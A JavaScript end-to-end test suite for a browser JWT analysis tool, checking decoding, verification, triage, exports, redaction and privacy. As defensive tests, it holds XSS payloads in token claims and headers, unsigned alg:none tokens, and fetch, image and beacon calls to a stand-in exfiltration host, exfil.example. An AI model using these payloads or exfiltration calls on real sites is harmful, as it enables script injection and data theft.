// End-to-end tests: serve dist/ on 127.0.0.1, open it in headless Chromium, act like an analyst
// and read the results from the DOM. Usage: node e2e/run.mjs DIST_DIR
// Env: KEYHOLE_CLI = path of the keyhole binary (default target/debug/keyhole) for the
// UI-versus-CLI comparison of the golden cases. Prints one line per check; exits 1 on failure.
import { createHmac } from "node:crypto";
import { execFileSync } from "node:child_process";
import { mkdir, mkdtemp, readdir, readFile, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { existsSync } from "node:fs";
import { join, resolve } from "node:path";
import { serveDir } from "./serve.mjs";
import { launch } from "./browser.mjs";
import { assert, checks } from "./harness.mjs";

const dist = process.argv[2] ?? "dist";
const root = new URL("..", import.meta.url).pathname;
const outDir = join(root, "e2e/out");
const goldenDir = join(root, "crates/engine/golden/cases");
const cli = process.env.KEYHOLE_CLI ?? join(root, "target/debug/keyhole");
await mkdir(outDir, { recursive: true });

const b64url = (s) => Buffer.from(s).toString("base64url");
/** A synthetic HS256 token, made here so no third-party data is needed. */
function makeToken(claims, header = {}) {
  const head = b64url(JSON.stringify({ alg: "HS256", typ: "JWT", kid: "e2e-key", ...header }));
  const body = b64url(JSON.stringify(claims));
  const sig = createHmac("sha256", "e2e-secret-at-least-32-bytes-long!").update(`${head}.${body}`).digest("base64url");
  return `${head}.${body}.${sig}`;
}

// E2E_ONLY=regex runs only the matching checks (for development; CI runs them all).
const { check, finish } = checks({ only: process.env.E2E_ONLY ? new RegExp(process.env.E2E_ONLY) : null });
async function waitForAnalysis(page, total) {
  const sel = total === undefined ? "#summary[data-total]" : `#summary[data-total="${total}"]`;
  await page.waitForSelector(sel, { timeout: 20000 });
}
async function verdictsInPage(page) {
  return page.$$eval("[data-verdict]", (els) =>
    els.map((e) => ({ verdict: e.dataset.verdict, codes: (e.dataset.codes ?? "").split(" ").filter(Boolean).sort() })),
  );
}

const server = await serveDir(dist, "/");
const { context, page, requests, unblocked, consoleErrors } = await launch();
const origin = new URL(server.url).origin;
const token = makeToken({ sub: "analyst-e2e", tid: "11111111-2222-3333-4444-555555555555", name: "E2E <b>Person</b>" });
try {
  await check("the app loads and shows the tokens input", async () => {
    await page.goto(server.url);
    await page.waitForSelector("#tokens-input", { timeout: 15000 });
  });

  await check("no Content-Security-Policy violation while loading", async () => {
    const violations = await page.evaluate(
      () =>
        new Promise((ok) => {
          const seen = [];
          document.addEventListener("securitypolicyviolation", (e) => seen.push(e.violatedDirective));
          setTimeout(() => ok(seen), 300);
        }),
    );
    assert(violations.length === 0, `violations: ${violations.join(", ")}`);
  });

  await check("pasting a token shows its verdict, decoded header and payload", async () => {
    await page.focus("#tokens-input");
    await page.keyboard.insertText(`GET /api HTTP/1.1\nAuthorization: Bearer ${token}\n`);
    await waitForAnalysis(page, "1");
    const card = page.locator(".token-card").first();
    assert((await card.getAttribute("data-verdict")) === "unverified", "an HS256 token without a secret is unverified");
    const header = await card.locator(".decoded-header").textContent();
    const payload = await card.locator(".decoded-payload").textContent();
    assert(header.includes('"alg": "HS256"'), `header was: ${header}`);
    assert(payload.includes('"sub": "analyst-e2e"'), `payload was: ${payload}`);
    assert(payload.includes("E2E <b>Person</b>"), "markup in a claim must show as text");
    assert((await page.$$(".token-card b")).length === 0, "a claim injected an element");
    const found = await card.locator(".found-at").textContent();
    assert(found.includes("line 2") && found.includes("Authorization header"), `found-at was: ${found}`);
  });

  await check("typing the HMAC secret verifies the token (analysis updates as you type)", async () => {
    await page.fill("#hmac-secret", "e2e-secret-at-least-32-bytes-long!");
    await page.waitForSelector('.token-card .signature-line:has-text("verified with trusted key")', { timeout: 10000 });
    await page.fill("#hmac-secret", "");
  });

  await check("garbage input is reported as malformed, not a blank page", async () => {
    await page.fill("#tokens-input", "");
    await page.fill("#tokens-input", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ4In0");
    await waitForAnalysis(page);
    const total = await page.getAttribute("#summary", "data-total");
    assert(total === "0" || total === "1", `unexpected total ${total}`);
    const notes = await page.textContent("#summary");
    assert(total === "1" || notes.includes("no token was found"), `summary was: ${notes}`);
  });

  const cases = (await readdir(goldenDir)).filter((f) => f.endsWith(".json")).sort();
  for (const file of cases) {
    await check(`opening golden case ${file} gives the same verdicts and codes as the CLI`, async () => {
      assert(existsSync(cli), `the keyhole CLI was not found at ${cli} (set KEYHOLE_CLI)`);
      let out;
      try {
        // The page does not consult Keyhole's catalogue of published keys yet (issue 14: it is
        // to load on demand); the CLI does by default, so the comparison turns it off.
        out = execFileSync(cli, ["check", "--no-catalogue", join(goldenDir, file)], { encoding: "utf8" });
      } catch (e) {
        out = e.stdout; // exit status 1 means "violation found", which is expected
      }
      const expected = JSON.parse(out).tokens.map((t) => ({
        verdict: t.verdict,
        codes: t.findings.map((f) => f.code).sort(),
      }));
      await page.setInputFiles("input#case-file", join(goldenDir, file));
      await waitForAnalysis(page, String(expected.length));
      await page.waitForFunction(
        (n) => document.querySelectorAll("[data-verdict]").length === n,
        expected.length,
      );
      const got = await verdictsInPage(page);
      assert(JSON.stringify(got) === JSON.stringify(expected), `UI ${JSON.stringify(got)}\nCLI ${JSON.stringify(expected)}`);
      await page.screenshot({ path: join(outDir, `case-${file.replace(".json", "")}.png`), fullPage: false });
    });
  }

  await check("the Storm-0558 sample button shows the violation and the key matrix flags the key", async () => {
    await page.click('button[data-sample="storm-0558"]');
    await waitForAnalysis(page, "2");
    const codes = await page.getAttribute(".token-card >> nth=0", "data-codes");
    assert(codes.includes("consumer-key-for-organization-tenant"), codes);
    const flagged = await page.$$eval("#key-matrix tr.flagged", (rows) => rows.length);
    assert(flagged >= 1, "no key flagged in the matrix");
    const status = await page.textContent("#summary .status");
    assert(status.includes("WebCrypto"), `a secure context should verify with WebCrypto: ${status}`);
  });

  await check("export JSON downloads the report, with tokens replaced by fingerprints", async () => {
    const [download] = await Promise.all([page.waitForEvent("download"), page.click("#export-json")]);
    const path = await download.path();
    const report = JSON.parse(await readFile(path, "utf8"));
    assert(report.summary.violation === 2, `summary ${JSON.stringify(report.summary)}`);
    assert(report.tokens.every((t) => t.token === undefined && /^[0-9a-f]{64}$/.test(t.fingerprint)), "token text leaked into the export");
    assert(report.tokens[0].claims.name === "[redacted]", "personal claim not redacted");
  });

  await check("export Markdown and save case download files", async () => {
    const [md] = await Promise.all([page.waitForEvent("download"), page.click("#export-md")]);
    assert((await readFile(await md.path(), "utf8")).startsWith("# Keyhole report"), "markdown export");
    await page.click("#save-case");
    const [saved] = await Promise.all([page.waitForEvent("download"), page.click("#save-with-tokens")]);
    const caseFile = JSON.parse(await readFile(await saved.path(), "utf8"));
    assert(caseFile.tokens.length === 2 && caseFile.key_sets.length === 1, "saved case differs");
  });

  // --- Evidence, key names, copy finding and the ticket exports (issues 15/16) -------------
  // The Storm-0558 sample is open. One block, so that other additions merge around it.
  {
    const card = page.locator(".token-card").first();
    const cell = (code, name) => card.locator(`.finding[data-code="${code}"] tr[data-evidence="${name}"] td`);
    let cliReport;
    const cliReportOf = () => {
      if (!cliReport) {
        let out;
        try {
          out = execFileSync(cli, ["check", "--no-catalogue", join(goldenDir, "storm-0558.json")], { encoding: "utf8" });
        } catch (e) {
          out = e.stdout;
        }
        cliReport = JSON.parse(out);
      }
      return cliReport;
    };
    const download = async (id) => {
      const [d] = await Promise.all([page.waitForEvent("download"), page.click(id)]);
      return readFile(await d.path(), "utf8");
    };

    await check("evidence shows times in UTC, scopes in words and keys by name, never raw JSON or bare epochs", async () => {
      assert((await cell("signing-cert-expired-at-issue", "not_after").textContent()).trim() === "2021-04-04 14:43:35 UTC", "not_after is not in UTC");
      assert((await cell("consumer-key-for-organization-tenant", "key_scope").textContent()).trim() === "Microsoft consumer accounts only", "scope not in words");
      const cells = await page.$$eval(".evidence td", (els) => els.map((e) => e.textContent.trim()));
      assert(cells.length > 5, `only ${cells.length} evidence cells`);
      for (const c of cells) {
        assert(!/^-?\d{9,11}$/.test(c), `a bare epoch is shown: ${c}`);
        assert(!c.includes('{"kind"') && !c.includes('"epoch"'), `raw JSON is shown: ${c}`);
      }
    });

    await check("a key has one name in the evidence, the key matrix, the JSON and Markdown exports and the CLI", async () => {
      const name = (await cell("consumer-key-for-organization-tenant", "key_id").textContent()).trim();
      assert(/^key set 1 \(…\/common\/discovery\/v2\.0\/keys\), kid \S+$/.test(name), `key name: ${name}`);
      const matrix = await page.$$eval("#key-matrix th.key-name", (els) => els.map((e) => e.textContent.trim()));
      assert(matrix.includes(name), `the key matrix names ${JSON.stringify(matrix)}`);
      const message = await card.locator('.finding[data-code="consumer-key-for-organization-tenant"] .finding-message').textContent();
      assert(message.startsWith(name), `the message does not name the key: ${message}`);
      const json = JSON.parse(await download("#export-json"));
      assert(json.tokens[0].signing_key.name === name, `JSON export: ${json.tokens[0].signing_key.name}`);
      const md = await download("#export-md");
      assert(md.includes(name.replaceAll("_", "\\_")), "the Markdown export names the key otherwise");
      assert(cliReportOf().tokens[0].signing_key.name === name, `CLI: ${cliReportOf().tokens[0].signing_key.name}`);
      const evidence = cliReportOf().tokens[0].findings.find((f) => f.code === "consumer-key-for-organization-tenant").evidence;
      assert(evidence.key_id.name === name && evidence.key_id.key_id === "0/1", `CLI evidence: ${JSON.stringify(evidence.key_id)}`);
    });

    await check("Copy finding puts the finding's sentence with its evidence on the clipboard", async () => {
      await context.grantPermissions(["clipboard-read", "clipboard-write"], { origin });
      const finding = card.locator('.finding[data-code="consumer-key-for-organization-tenant"]');
      await finding.locator("button.copy-finding").click();
      await finding.locator('.copy-state:has-text("Copied")').waitFor({ timeout: 5000 });
      const copied = await page.evaluate(() => navigator.clipboard.readText());
      const fp = cliReportOf().tokens[0].fingerprint;
      assert(copied.startsWith(`Keyhole, token 1 (violation, SHA-256 ${fp}): Error consumer-key-for-organization-tenant: key set 1 (`), `copied: ${copied}`);
      assert(copied.includes("Evidence: ") && copied.includes("key scope = Microsoft consumer accounts only"), `copied: ${copied}`);
      assert(!copied.includes('{"kind"'), `copied raw JSON: ${copied}`);
    });

    await check("the printable HTML export is self-contained, passes its CSP, and redaction changes every export", async () => {
      const token = cliReportOf().tokens[0].token;
      const html = await download("#export-html");
      assert(html.startsWith("<!DOCTYPE html>") && !html.includes("<script") && !/ (src|href)=/.test(html), "the HTML export is not self-contained");
      assert(!html.includes(token) && html.includes(cliReportOf().tokens[0].fingerprint), "the redacted HTML export holds the token");
      const redactedMd = await download("#export-md");
      const viewer = await context.newPage();
      const violations = [];
      viewer.on("console", (m) => m.type() === "error" && violations.push(m.text()));
      await viewer.setContent(html);
      const styled = await viewer.evaluate(() => getComputedStyle(document.body).maxWidth !== "none");
      const heading = await viewer.textContent("h1");
      await viewer.close();
      assert(styled && heading === "Keyhole report", "the HTML export's own style did not apply");
      assert(violations.length === 0, `the HTML export broke its CSP: ${violations.join("; ")}`);
      await page.uncheck("#export-redact");
      await page.uncheck("#export-fingerprint");
      try {
        const md = await download("#export-md");
        const full = await download("#export-html");
        assert(md !== redactedMd && md.includes(token), "unredacted Markdown lacks the token");
        assert(full !== html && full.includes(token), "unredacted HTML lacks the token");
        const user = cliReportOf().tokens[0].claims.preferred_username;
        assert(full.includes(user) && !html.includes(user), `the user ${user} is not redacted in HTML only`);
      } finally {
        await page.check("#export-redact");
        await page.check("#export-fingerprint");
      }
    });
  }
  // --- end of the evidence and exports block -------------------------------------------------

  await check("screenshots: light and dark, wide and 1024 px", async () => {
    await page.click('button[data-sample="storm-0558"]');
    await waitForAnalysis(page, "2");
    for (const scheme of ["light", "dark"]) {
      await page.emulateMedia({ colorScheme: scheme });
      await page.setViewportSize({ width: 1280, height: 900 });
      await page.screenshot({ path: join(outDir, `storm-${scheme}-wide.png`) });
      await page.setViewportSize({ width: 1024, height: 900 });
      await page.screenshot({ path: join(outDir, `storm-${scheme}-1024.png`), fullPage: true });
    }
    await page.emulateMedia({ colorScheme: "light" });
    await page.setViewportSize({ width: 1280, height: 900 });
    await page.locator("#summary").evaluate((e) => e.scrollIntoView());
    await page.screenshot({ path: join(outDir, "results-light.png") });
    const overflow = await page.evaluate(() => document.documentElement.scrollWidth > window.innerWidth + 1);
    assert(!overflow, "the page scrolls horizontally at 1280 px");
  });

  await check("keyboard only: Tab to a sample, press Enter, focus is visible", async () => {
    await page.click("#reset");
    await page.evaluate(() => document.activeElement?.blur());
    let reached = false;
    for (let i = 0; i < 40 && !reached; i++) {
      await page.keyboard.press("Tab");
      reached = await page.evaluate(() => document.activeElement?.dataset?.sample === "cross-cloud");
    }
    assert(reached, "Tab never reached the cross-cloud sample button");
    const outline = await page.evaluate(() => getComputedStyle(document.activeElement).outlineStyle);
    assert(outline !== "none", "focused button has no visible outline");
    await page.keyboard.press("Enter");
    await waitForAnalysis(page, "2");
    const verdicts = await verdictsInPage(page);
    assert(verdicts.every((v) => v.codes.includes("cross-cloud-key")), JSON.stringify(verdicts));
  });

  await check("hostile claim and header values render as inert, visible text", async () => {
    await page.click("#reset");
    const hostile = makeToken(
      {
        name: '<img src=x onerror="window.__pwned=1">',
        upn: "<script>window.__pwned=2</script>",
        website: "javascript:window.__pwned=3",
        style: "</pre><style>body{display:none}</style>",
        family_name: "admin\u202Egpj.exe",
        given_name: "zero\u200Bwidth",
      },
      { kid: '"><svg onload="window.__pwned=4">' },
    );
    await page.fill("#tokens-input", hostile);
    await waitForAnalysis(page, "1");
    const state = await page.evaluate(() => ({
      pwned: window.__pwned,
      injected: document.querySelectorAll(".token-card img, .token-card script, .token-card svg, .token-card style").length,
      markers: [...document.querySelectorAll(".token-card .invisible-char")].map((e) => e.textContent),
      visible: getComputedStyle(document.body).display,
    }));
    assert(state.pwned === undefined, "a hostile value ran script");
    assert(state.injected === 0, "a hostile value injected an element");
    assert(state.markers.includes("U+202E") && state.markers.includes("U+200B"), `markers: ${state.markers}`);
    assert(state.visible !== "none", "injected CSS applied");
  });

  await check("a WebAssembly trap (a panic in the release build) shows the error screen, its message as inert text, with a reset button", async () => {
    // The release module aborts on panic without a message (panic=immediate-abort): what reaches
    // the page is a WebAssembly.RuntimeError thrown out of a callback, as here from a timer and
    // from a rejected promise.
    const seen = await page.evaluate(async () => {
      const shown = () => {
        const panel = document.getElementById("fatal-error");
        const out = panel && {
          text: panel.querySelector("pre")?.textContent,
          injected: panel.querySelectorAll("img, script").length,
          reset: !!document.getElementById("fatal-reset"),
          focused: document.activeElement?.id,
        };
        panel?.remove();
        return out;
      };
      const idle = () => new Promise((r) => setTimeout(r, 50));
      setTimeout(() => {
        throw new WebAssembly.RuntimeError('unreachable (e2e-deliberate) <img src=x onerror="window.__pwned=5">');
      });
      await idle();
      const thrown = shown();
      Promise.reject(new WebAssembly.RuntimeError("unreachable from a promise (e2e-deliberate)"));
      await idle();
      const rejected = shown();
      setTimeout(() => {
        throw new TypeError("not a trap (e2e-deliberate)");
      });
      await idle();
      return { thrown, rejected, other: shown(), pwned: window.__pwned };
    });
    assert(seen.thrown?.text?.includes('RuntimeError: unreachable (e2e-deliberate) <img src=x onerror="window.__pwned=5">'), JSON.stringify(seen));
    assert(seen.thrown.injected === 0 && seen.pwned === undefined, "the message was not inert");
    assert(seen.thrown.reset && seen.thrown.focused === "fatal-reset", "no focused reset button");
    assert(seen.rejected?.text?.includes("unreachable from a promise (e2e-deliberate)"), JSON.stringify(seen.rejected));
    assert(seen.other === null || seen.other === undefined, "an ordinary script error showed the trap screen");
  });

  await check("10,000 pasted tokens are found by the extraction worker, analysed in slices, and no main-thread task exceeds 200 ms", async () => {
    await page.click("#reset");
    const many = Array.from({ length: 10000 }, (_, i) => makeToken({ sub: `user-${i}`, tid: "11111111-2222-3333-4444-555555555555", iat: i }));
    await page.evaluate(() => {
      window.__longTasks = [];
      new PerformanceObserver((l) => l.getEntries().forEach((e) => window.__longTasks.push(Math.round(e.duration)))).observe({ type: "longtask" });
    });
    // One input event with the whole text, like a paste.
    await page.evaluate((text) => {
      const area = document.querySelector("#tokens-input");
      area.value = text;
      area.dispatchEvent(new Event("input", { bubbles: true }));
    }, many.join("\n"));
    await waitForAnalysis(page, "10000");
    const status = await page.textContent("#summary .status");
    assert(status.includes("WebCrypto"), `not verified with WebCrypto: ${status}`);
    assert(page.workers().length >= 1, "the text was not searched in a worker");
    const cards = await page.$$eval("[data-verdict]", (e) => e.length);
    assert(cards === 100, `expected the first page of 100 tokens, got ${cards}`);
    const longTasks = await page.evaluate(() => window.__longTasks);
    console.log(`       main-thread long tasks (ms): ${JSON.stringify(longTasks)}`);
    assert(longTasks.every((d) => d <= 200), `the main thread was blocked for ${Math.max(...longTasks)} ms`);
  });

  // ── Issue 15: triage and errors where they happen (helper/triage) ──────────────────────────
  {
    /** Waits until the token list shows `n` tokens for the current choices. */
    const shown = (n) => page.waitForSelector(`.token-list[data-shown="${n}"]`, { timeout: 30000 });
    const cardsIn = (sel = ".token-card") => page.$$eval(sel, (e) => e.map((c) => ({ index: Number(c.dataset.index), verdict: c.dataset.verdict })));
    const none = (claims) => `${b64url(JSON.stringify({ alg: "none", typ: "JWT" }))}.${b64url(JSON.stringify(claims))}.`;
    const tenants = ["aaaaaaaa-0000-0000-0000-000000000000", "bbbbbbbb-0000-0000-0000-000000000000"];
    // 10,000 tokens: every tenth unsecured (violation), every tenth + 1 signed with another secret
    // (invalid with the case's secret), every tenth + 2 cut short (malformed), the rest signed
    // with the case's secret; iat descends, so sorting by time reverses the case.
    const triageTokens = Array.from({ length: 10000 }, (_, i) => {
      const claims = { sub: `user-${i}`, tid: tenants[i % 2], iat: 1700000000 + (10000 - i) * 60 };
      if (i % 10 === 0) return none(claims);
      if (i % 10 === 1) return makeToken(claims).replace(/\.[^.]+$/, ".c2lnbmF0dXJlLW9mLWFub3RoZXItc2VjcmV0LXh4eHh4eHh4eHg");
      if (i % 10 === 2) return "eyJhbGciOiJIUzI1NiJ9.!!!.x";
      return makeToken(claims);
    });
    const triageCase = { name: "triage", now: 1700000000, tokens: triageTokens, hmac_secrets: [{ value: "e2e-secret-at-least-32-bytes-long!" }] };
    const dir = await mkdtemp(join(tmpdir(), "keyhole-e2e-"));
    await writeFile(join(dir, "triage.json"), JSON.stringify(triageCase));
    const summaryOf = () => page.$eval("#summary", (e) => ({ ...e.dataset }));

    await check("triage: the summary counts filter the 10,000-token list, by mouse and keyboard, with aria-pressed", async () => {
      await page.setInputFiles("input#case-file", join(dir, "triage.json"));
      // The page held 10,000 other tokens before: wait for this case's own counts.
      await page.waitForSelector('#summary[data-total="10000"][data-violation="1000"]', { timeout: 60000 });
      await shown(10000);
      const s = await summaryOf();
      assert(Number(s.violation) === 1000 && Number(s.malformed) === 1000, JSON.stringify(s));
      await page.click('#summary [data-filter="violation"]');
      await shown(s.violation);
      assert((await page.getAttribute('#summary [data-filter="violation"]', "aria-pressed")) === "true", "not pressed");
      assert((await page.getAttribute('#summary [data-filter="tokens"]', "aria-pressed")) === "false", "all still pressed");
      let cards = await cardsIn();
      assert(cards.length === 100 && cards.every((c) => c.verdict === "violation"), JSON.stringify(cards.slice(0, 3)));
      // Keyboard: focus the invalid count and press Space: violations and invalid tokens together.
      await page.focus('#summary [data-filter="invalid"]');
      await page.keyboard.press("Space");
      await shown(Number(s.violation) + Number(s.invalid));
      cards = await cardsIn();
      assert(cards.every((c) => c.verdict === "violation" || c.verdict === "invalid"), "other verdicts shown");
      assert(cards[1].verdict === "invalid", `case order keeps token 1 (invalid) second: ${JSON.stringify(cards.slice(0, 2))}`);
      await page.focus('#summary [data-filter="tokens"]');
      await page.keyboard.press("Enter");
      await shown(10000);
      assert((await page.getAttribute('#summary [data-filter="violation"]', "aria-pressed")) === "false", "still pressed");
    });

    await check("triage: sorting by severity, time, key and tenant orders the 10,000 tokens", async () => {
      await page.selectOption("#token-sort", "severity");
      await shown(10000);
      let cards = await cardsIn();
      assert(cards[0].verdict === "violation" && cards[0].index === 0, JSON.stringify(cards[0]));
      await page.selectOption("#token-sort", "time");
      await shown(10000);
      cards = await cardsIn();
      // The latest token has the earliest iat; malformed tokens (no iat) come last.
      assert(cards[0].index === 9999 && cards[1].index === 9998, JSON.stringify(cards.slice(0, 2)));
      const iats = await page.$$eval(".token-card .iat", (e) => e.slice(0, 2).map((x) => x.textContent));
      assert(iats[0] < iats[1], `iat order: ${iats}`);
      await page.selectOption("#token-sort", "tenant");
      await shown(10000);
      const heads = await page.$$eval(".token-card", (e) => e.map((c) => c.dataset.index));
      assert(heads.every((i) => Number(i) % 2 === 0), "tenant aaaa… (even tokens) first");
      await page.selectOption("#token-sort", "key");
      await shown(10000);
      await page.selectOption("#token-sort", "case");
      await shown(10000);
      assert((await cardsIn())[0].index === 0, "back to case order");
    });

    await check("triage: the search finds a user, a tenant and a code; permitted cards start collapsed; headers say who, when and where", async () => {
      await page.fill("#token-search", "USER-4243");
      await shown(1);
      let cards = await cardsIn();
      assert(cards.length === 1 && cards[0].index === 4243, JSON.stringify(cards));
      const head = await page.textContent(".token-card .token-head");
      assert(head.includes("sub user-4243") && head.includes("issued ") && head.includes("tokens[4243]"), `header: ${head}`);
      await page.fill("#token-search", "alg-none");
      await shown(1000);
      await page.fill("#token-search", "bbbbbbbb-0000");
      await shown(5000);
      await page.click("#triage-clear");
      await shown(10000);
      assert((await page.inputValue("#token-search")) === "", "search not cleared");
      // Paging stays.
      const pager = await page.textContent(".token-list .pager");
      assert(pager.includes("of 10000"), pager);
      await page.click('#summary [data-filter="unverified"]');
      await page.click('#summary [data-filter="permitted"]');
      const n = Number((await summaryOf()).unverified) + Number((await summaryOf()).permitted);
      await shown(n);
      const open = await page.$$eval(".token-card", (e) => e.map((c) => [c.dataset.verdict, c.querySelector("details").open]));
      assert(open.every(([v, o]) => v !== "permitted" || !o), `a permitted card is open: ${JSON.stringify(open.slice(0, 3))}`);
      await page.click('#summary [data-filter="tokens"]');
      await shown(10000);
    });

    await check("triage: a skip link leads to the results", async () => {
      // A click on the page's top corner starts keyboard navigation from the top.
      await page.evaluate(() => window.scrollTo(0, 0));
      await page.mouse.click(3, 3);
      await page.keyboard.press("Tab");
      const first = await page.evaluate(() => document.activeElement?.textContent);
      assert(first === "Skip to results", `first Tab stop: ${first}`);
      await page.keyboard.press("Enter");
      const at = await page.evaluate(() => document.activeElement?.id);
      assert(at === "summary", `focus after the skip link: ${at}`);
    });

    await check("errors where they happen: a key set's unreadable key is said inside that key set", async () => {
      await page.click("#reset");
      await page.fill("#tokens-input", token);
      await waitForAnalysis(page, "1");
      await page.click("#add-key-set");
      await page.click("#add-key-set");
      const bad = JSON.stringify({ keys: [{ kty: "RSA", kid: "broken-key", n: "!!", e: "AQAB" }] });
      await page.fill(".key-set >> nth=1 >> .ks-document", bad);
      const problem = await page.waitForSelector(".key-set >> nth=1 >> .key-set-problems li", { timeout: 10000 });
      const text = await problem.textContent();
      assert(text.includes("broken-key"), `problem: ${text}`);
      assert((await page.$$(".key-set >> nth=0 >> .key-set-problems")).length === 0, "the empty key set shows a problem");
      assert((await page.getAttribute(".key-set >> nth=1 >> .ks-document", "aria-invalid")) === "true", "document not marked invalid");
      await page.click(".key-set >> nth=1 >> button.remove");
      await page.click(".key-set >> nth=0 >> button.remove");
    });

    await check("errors where they happen: a token cut inside its payload is listed as malformed, with where it was cut and its header", async () => {
      const full = makeToken({ sub: "cut-user", tid: tenants[0] });
      const cut = full.slice(0, full.indexOf(".") + 20);
      await page.fill("#tokens-input", `2026-11-26T09:00:00Z 203.0.113.9 GET /api Authorization: Bearer ${cut}\n`);
      await waitForAnalysis(page, "1");
      const card = page.locator(".token-card").first();
      assert((await card.getAttribute("data-verdict")) === "malformed", "not malformed");
      const error = await card.locator(".error").textContent();
      assert(error.includes("cut off") && error.includes(`after ${cut.length} characters, inside its payload`), `error: ${error}`);
      const header = await card.locator(".decoded-header").textContent();
      assert(header.includes('"kid": "e2e-key"'), `header: ${header}`);
      const notes = await card.locator(".notes").textContent();
      assert(notes.includes('{"sub":"cut'), `notes: ${notes}`);
      const head = await card.locator(".token-head").textContent();
      assert(head.includes("203.0.113.9") && head.includes("GET /api"), `header line: ${head}`);
    });

    await check("saving a case warns that it holds live tokens and offers a copy with fingerprints", async () => {
      await page.click('button[data-sample="storm-0558"]');
      await waitForAnalysis(page, "2");
      await page.click("#save-case");
      const warning = await page.textContent("#save-warning");
      assert(warning.includes("live tokens") && warning.includes("2 bearer tokens"), `warning: ${warning}`);
      const [saved] = await Promise.all([page.waitForEvent("download"), page.click("#save-fingerprinted")]);
      const text = await readFile(await saved.path(), "utf8");
      const copy = JSON.parse(text);
      assert(copy.tokens.length === 2 && copy.tokens.every((t) => /^sha256:[0-9a-f]{64}$/.test(t)), JSON.stringify(copy.tokens));
      assert(!/eyJ[\w-]+\.eyJ/.test(text), "a token is left in the copy");
      assert(copy.key_sets.length === 1, "key sets not kept");
      assert((await page.$$("#save-warning")).length === 0, "the warning stays open");
      await page.click("#save-case");
      await page.click("#save-cancel");
      assert((await page.$$("#save-warning")).length === 0, "cancel did not close the warning");
    });

    await check("analysis time per token: judged at its log line's time, the note says so; case-wide time gives issued-in-future", async () => {
      await page.click("#reset");
      const t0 = Date.UTC(2023, 5, 20, 12, 0, 0) / 1000;
      const late = makeToken({ sub: "late-user", tid: tenants[0], iat: t0 + 7200 });
      await page.fill("#as-of", "2023-06-20T12:00");
      await page.fill("#tokens-input", `2023-06-20T14:00:05Z INFO GET /api Authorization: Bearer ${late}\n`);
      await waitForAnalysis(page, "1");
      const before = await page.getAttribute(".token-card", "data-codes");
      assert(before.includes("issued-in-future"), `case-wide time: ${before}`);
      await page.check("#judge-at-token");
      await page.waitForFunction(() => !document.querySelector(".token-card")?.dataset.codes.includes("issued-in-future"), null, { timeout: 10000 });
      await waitForAnalysis(page, "1");
      const notes = await page.textContent(".token-card .notes");
      assert(notes.includes("judged as of 2023-06-20T14:00:05Z, the time of the log line"), `notes: ${notes}`);
      await page.uncheck("#judge-at-token");
      await page.click("#as-of-now");
    });

    await check("triage screenshots: results at 1440×900 and 1024×768, light and dark", async () => {
      await page.setInputFiles("input#case-file", join(dir, "triage.json"));
      await page.waitForSelector('#summary[data-total="10000"][data-violation="1000"]', { timeout: 60000 });
      await page.click('#summary [data-filter="violation"]');
      await shown(1000);
      for (const scheme of ["light", "dark"]) {
        await page.emulateMedia({ colorScheme: scheme });
        for (const [w, h] of [[1440, 900], [1024, 768]]) {
          await page.setViewportSize({ width: w, height: h });
          await page.locator("#summary").evaluate((e) => e.scrollIntoView());
          await page.screenshot({ path: join(outDir, `triage-${scheme}-${w}.png`) });
          const overflow = await page.evaluate(() => document.documentElement.scrollWidth > window.innerWidth + 1);
          assert(!overflow, `the page scrolls horizontally at ${w} px (${scheme})`);
        }
      }
      await page.emulateMedia({ colorScheme: "light" });
      await page.setViewportSize({ width: 1280, height: 900 });
      await page.click('#summary [data-filter="tokens"]');
    });
  }
  // ── end of issue 15 (helper/triage) ────────────────────────────────────────────────────────

  await check("an injected fetch, image and sendBeacon to another origin are blocked by the CSP", async () => {
    const outcome = await page.evaluate(async () => {
      const seen = [];
      document.addEventListener("securitypolicyviolation", (e) => seen.push(e.violatedDirective));
      let fetchBlocked = false;
      try {
        await fetch("https://exfil.example/leak?t=1");
      } catch {
        fetchBlocked = true;
      }
      const img = new Image();
      img.src = "https://exfil.example/pixel.gif";
      const beacon = navigator.sendBeacon("https://exfil.example/beacon", "x");
      await new Promise((ok) => setTimeout(ok, 300));
      return { fetchBlocked, beacon, seen };
    });
    const leaked = unblocked().filter((u) => u.includes("exfil.example"));
    assert(outcome.fetchBlocked, "fetch to another origin was not blocked");
    assert(outcome.seen.includes("connect-src"), `no connect-src violation: ${outcome.seen}`);
    assert(outcome.seen.includes("img-src"), `no img-src violation: ${outcome.seen}`);
    assert(leaked.length === 0, `requests left the page: ${leaked.join(", ")}`);
  });

  await check("every request of the whole workflow was for the app's own files", async () => {
    const foreign = requests.filter(
      (u) => !u.startsWith(origin + "/") && !u.startsWith("data:") && !u.startsWith("blob:") && !u.includes("exfil.example"),
    );
    assert(foreign.length === 0, `foreign requests: ${foreign.join(", ")}`);
    assert(requests.length > 0, "CDP saw no requests at all: the audit is not working");
    const paths = new Set(server.served);
    for (const p of paths) assert(existsSync(join(dist, p === "/" ? "index.html" : p)), `served a path that is not in dist: ${p}`);
  });

  await check("nothing was stored: localStorage, sessionStorage, IndexedDB and cookies are empty", async () => {
    const stored = await page.evaluate(async () => ({
      local: localStorage.length,
      session: sessionStorage.length,
      idb: (await indexedDB.databases()).length,
      cookie: document.cookie,
    }));
    const cookies = await context.cookies();
    assert(stored.local === 0 && stored.session === 0 && stored.idb === 0 && stored.cookie === "", JSON.stringify(stored));
    assert(cookies.length === 0, `cookies: ${JSON.stringify(cookies)}`);
  });

  await check("works from a sub-path", async () => {
    const sub = await serveDir(dist, "/tools/keyhole/");
    try {
      const p = await context.newPage();
      await p.goto(sub.url);
      await p.fill("#tokens-input", token);
      await waitForAnalysis(p, "1");
      const payload = await p.locator(".decoded-payload").first().textContent();
      assert(payload.includes("analyst-e2e"), "decode failed under a sub-path");
      assert(sub.served.every((u) => u.startsWith("/tools/keyhole/")), `requests outside the sub-path: ${sub.served}`);
      await p.close();
    } finally {
      await sub.close();
    }
  });

  await check("works when opened from file:// (offline.html)", async () => {
    const p = await context.newPage();
    const pageErrors = [];
    p.on("pageerror", (e) => pageErrors.push(String(e)));
    await p.goto(new URL(`file://${resolve(dist)}/offline.html`).href);
    await p.waitForSelector("#tokens-input", { timeout: 15000 });
    await p.fill("#tokens-input", token);
    await waitForAnalysis(p, "1");
    const payload = await p.locator(".decoded-payload").first().textContent();
    assert(payload.includes("analyst-e2e"), "decode failed from file://");
    assert(pageErrors.length === 0, pageErrors.join("\n"));
    await p.close();
  });

